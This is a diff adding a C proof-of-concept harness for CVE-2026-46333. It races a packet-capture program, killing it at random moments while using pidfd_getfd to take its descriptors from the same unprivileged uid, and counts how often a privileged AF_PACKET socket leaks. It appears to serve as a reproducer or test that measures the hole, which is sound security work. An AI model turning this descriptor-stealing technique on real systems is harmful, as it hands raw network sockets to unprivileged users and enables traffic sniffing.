@@ -1,0 +1,188 @@
+/*
+ * Starts a capture many times, kills it at a random moment, and all the while, as the same
+ * ordinary uid, asks the kernel for its descriptors: the attack of CVE-2026-46333.
+ *
+ *   thief STARTS SECONDS LIFE_MS PROGRAM [ARGUMENT...]
+ *
+ * Ends after STARTS or SECONDS. Prints how many were started, how many of these were killed after
+ * their first output, how many lost a packet socket, and of how many a socket was seen in /proc.
+ */
+#include <fcntl.h>
+#include <poll.h>
+#include <signal.h>
+#include <stdbool.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+/* Helper, its child, writer, resolver: pids are given one after the other, and nobody else forks here. */
+#define PROCESSES 12
+#define FIRST_FD 3
+#define LAST_FD 11
+#define START_MS 20000
+#define READY_LIFE_MS 50
+#define MOURNING_MS 2000
+
+struct prey {
+	pid_t first;
+	int pidfds[PROCESSES];
+	int output;
+	int sweeps;
+	bool lost, seen;
+};
+
+static long now_ms(void)
+{
+	struct timespec now;
+
+	clock_gettime(CLOCK_MONOTONIC, &now);
+	return now.tv_sec * 1000L + now.tv_nsec / 1000000;
+}
+
+static bool is_ready(int fd)
+{
+	struct pollfd wait = { fd, POLLIN, 0 };
+
+	return poll(&wait, 1, 0) > 0;
+}
+
+static void find_processes(struct prey *prey)
+{
+	for (int i = 0; i < PROCESSES; i++)
+		if (prey->pidfds[i] < 0)
+			prey->pidfds[i] = (int)syscall(SYS_pidfd_open, prey->first + i, 0);
+}
+
+static bool is_packet_socket(int fd)
+{
+	int domain = 0;
+	socklen_t length = sizeof domain;
+
+	return getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &domain, &length) == 0 && domain == AF_PACKET;
+}
+
+static void look(struct prey *prey, int process)
+{
+	char path[64], target[64] = "";
+
+	snprintf(path, sizeof path, "/proc/%d/fd/%d", prey->first + process,
+		 FIRST_FD + prey->sweeps % (LAST_FD - FIRST_FD + 1));
+	if (readlink(path, target, sizeof target) > 0 && strncmp(target, "socket:", 7) == 0)
+		prey->seen = true;
+}
+
+static void sweep(struct prey *prey)
+{
+	for (int i = 0; i < PROCESSES; i++) {
+		if (prey->pidfds[i] < 0)
+			continue;
+		for (int number = FIRST_FD; number <= LAST_FD; number++) {
+			int fd = (int)syscall(SYS_pidfd_getfd, prey->pidfds[i], number, 0);
+
+			if (fd < 0)
+				continue;
+			if (is_packet_socket(fd))
+				prey->lost = true;
+			close(fd);
+		}
+		look(prey, i);
+	}
+	prey->sweeps++;
+}
+
+static void start(struct prey *prey, char **argv)
+{
+	int output[2];
+
+	if (pipe2(output, O_CLOEXEC) != 0)
+		exit(1);
+	prey->output = output[0];
+	prey->first = fork();
+	if (prey->first == 0) {
+		int null = open("/dev/null", O_RDWR);
+
+		dup2(output[1], 1);
+		dup2(null, 2);
+		execv(argv[0], argv);
+		_exit(127);
+	}
+	close(output[1]);
+	memset(prey->pidfds, -1, sizeof prey->pidfds);
+}
+
+static void end(struct prey *prey, bool all)
+{
+	find_processes(prey);
+	for (int i = 0; i < (all ? PROCESSES : 1); i++)
+		if (prey->pidfds[i] >= 0)
+			syscall(SYS_pidfd_send_signal, prey->pidfds[i], SIGKILL, NULL, 0);
+}
+
+static bool lives(const struct prey *prey)
+{
+	for (int i = 0; i < PROCESSES; i++)
+		if (prey->pidfds[i] >= 0 && !is_ready(prey->pidfds[i]))
+			return true;
+	return false;
+}
+
+static void forget(struct prey *prey)
+{
+	end(prey, true); /* whoever is left */
+	for (int i = 0; i < PROCESSES; i++)
+		if (prey->pidfds[i] >= 0)
+			close(prey->pidfds[i]);
+	close(prey->output);
+	waitpid(prey->first, NULL, 0);
+}
+
+/*
+ * Either from before its first instruction and to a moment at which it may not be under way yet, or
+ * once it is. Returns whether it was when it was killed.
+ */
+static bool hunt(struct prey *prey, char **argv, long life_ms, bool once_ready, bool all)
+{
+	struct pollfd output;
+	bool ready;
+	long until;
+
+	start(prey, argv);
+	output = (struct pollfd){ prey->output, POLLIN, 0 };
+	if (once_ready)
+		poll(&output, 1, START_MS);
+	until = now_ms() + random() % (once_ready ? READY_LIFE_MS : life_ms);
+	while (now_ms() < until) {
+		find_processes(prey);
+		sweep(prey);
+	}
+	ready = is_ready(prey->output);
+	end(prey, all);
+	for (until = now_ms() + MOURNING_MS; lives(prey) && now_ms() < until;)
+		sweep(prey);
+	forget(prey);
+	return ready;
+}
+
+int main(int argc, char **argv)
+{
+	int starts = 0, ready = 0, lost = 0, seen = 0;
+	long end_ms;
+
+	if (argc < 5)
+		return 2;
+	end_ms = now_ms() + atol(argv[2]) * 1000;
+	for (; starts < atoi(argv[1]) && now_ms() < end_ms; starts++) {
+		struct prey prey = { 0 };
+
+		ready += hunt(&prey, argv + 4, atol(argv[3]), starts % 2 == 1, starts % 4 > 1);
+		lost += prey.lost;
+		seen += prey.seen;
+	}
+	printf("starts=%d ready=%d lost=%d seen=%d\n", starts, ready, lost, seen);
+	return 0;
+}
